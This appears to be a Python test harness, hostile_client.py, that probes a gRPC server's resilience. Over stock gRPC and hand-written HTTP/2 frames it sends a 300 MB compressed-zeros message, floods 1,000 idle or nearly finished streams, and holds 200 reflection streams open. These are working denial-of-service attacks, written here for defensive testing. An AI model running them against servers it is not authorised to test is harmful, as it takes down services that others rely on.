"""What a stranger does to a server that serves anyone, with stock gRPC and with HTTP/2 written by hand.

    hostile_client.py ADDRESS compressed     one call with 300 MB of compressed zeros
    hostile_client.py ADDRESS idle           1,000 calls without a message
    hostile_client.py ADDRESS unfinished     1,000 calls that send 15.9 of 16 MiB
    hostile_client.py ADDRESS reflection     200 streams of the reflection service, all of them open

Prints JSON: of calls, how many ended with each status; of connections, "closed" when the server closed it.
"""
import collections
import json
import selectors
import socket
import struct
import sys
import threading

import grpc

STATUS = b"/lockstep.StatusService/GetStatus"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
STREAMS = 1000
PATIENCE = 50  # seconds
DATA, HEADERS, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 4, 6, 8
END_HEADERS, ACK = 4, 1


def compressed(address):
    options = [("grpc.max_send_message_length", -1)]
    with grpc.insecure_channel(address, options, compression=grpc.Compression.Gzip) as channel:
        try:
            channel.unary_unary(STATUS.decode())(bytes(300_000_000), timeout=PATIENCE)
            return {"OK": 1}
        except grpc.RpcError as error:
            return {error.code().name: 1}


def reflection(address):
    ended = collections.Counter()
    with grpc.insecure_channel(address) as channel:
        stop = threading.Event()

        def requests():
            yield b"\x3a\x00"  # list_services
            stop.wait()

        streams = [channel.stream_stream(REFLECTION)(requests(), timeout=PATIENCE) for _ in range(200)]
        for stream in streams:
            try:
                next(stream)
                ended["OPEN"] += 1
            except grpc.RpcError as error:
                ended[error.code().name] += 1
        print(json.dumps(ended), flush=True)
        sys.stdin.read()  # until the test has looked at the server
        stop.set()
        for stream in streams:
            stream.cancel()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers():
    def field(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    return b"".join(
        field(name, value)
        for name, value in [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", STATUS),
            (b":authority", b"stranger"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        ]
    )


class Connection:
    """Calls that each send `bytes_each` of a message of 16 MiB, as fast as the server's windows allow."""

    def __init__(self, address, streams, bytes_each):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        self.bytes_each = bytes_each
        self.received = b""
        self.window = 65535
        self.initial = 65535
        self.windows = {2 * i + 1: 65535 for i in range(streams)}
        self.sent = dict.fromkeys(self.windows, 0)
        self.frame_size = 16384

    def run(self):
        """Returns when the server has closed the connection."""
        self.socket.settimeout(PATIENCE)
        for stream in self.windows:
            self.socket.sendall(frame(HEADERS, END_HEADERS, stream, request_headers()))
        self.socket.setblocking(False)
        selector = selectors.DefaultSelector()
        selector.register(self.socket, selectors.EVENT_READ)
        out = bytearray()
        while True:
            while len(out) < 1 << 20 and (piece := self.next_piece()):
                out += piece
            selector.modify(self.socket, selectors.EVENT_READ | (selectors.EVENT_WRITE if out else 0))
            ready = selector.select(PATIENCE)
            if not ready:
                return "open"
            if ready[0][1] & selectors.EVENT_WRITE:
                del out[: self.socket.send(out)]
            if ready[0][1] & selectors.EVENT_READ:
                received = self.socket.recv(1 << 16)
                if not received:
                    return "closed"
                out += self.receive(received)

    def next_piece(self):
        for stream, window in self.windows.items():
            size = min(window, self.window, self.frame_size, self.bytes_each - self.sent[stream])
            if size > 0:
                payload = bytes(size)
                if self.sent[stream] == 0:
                    payload = (b"\x00" + struct.pack(">I", 16 << 20) + payload)[:size]
                self.sent[stream] += size
                self.windows[stream] -= size
                self.window -= size
                return frame(DATA, 0, stream, payload)
        return None

    def receive(self, received):
        """What to answer."""
        self.received += received
        answer = b""
        while len(self.received) >= 9:
            length = struct.unpack(">I", b"\x00" + self.received[:3])[0]
            if len(self.received) < 9 + length:
                break
            kind, flags = self.received[3], self.received[4]
            stream = struct.unpack(">I", self.received[5:9])[0]
            payload = self.received[9 : 9 + length]
            self.received = self.received[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[i : i + 6])
                    if name == 4:
                        for each in self.windows:
                            self.windows[each] += value - self.initial
                        self.initial = value
                    if name == 5:
                        self.frame_size = min(value, 1 << 20)
                answer += frame(SETTINGS, ACK, 0, b"")
            elif kind == PING and not flags & ACK:
                answer += frame(PING, ACK, 0, payload)
            elif kind == WINDOW_UPDATE:
                more = struct.unpack(">I", payload)[0]
                if stream == 0:
                    self.window += more
                elif stream in self.windows:
                    self.windows[stream] += more
        return answer


def calls(address, bytes_each):
    try:
        return {"connection": Connection(address, STREAMS, bytes_each).run()}
    except (ConnectionResetError, BrokenPipeError):
        return {"connection": "closed"}


def main():
    address, attack = sys.argv[1:]
    if attack == "reflection":
        reflection(address)
        return
    results = {
        "compressed": lambda: compressed(address),
        "idle": lambda: calls(address, 0),
        "unfinished": lambda: calls(address, 15_900_000),
    }
    print(json.dumps(results[attack]()))


main()
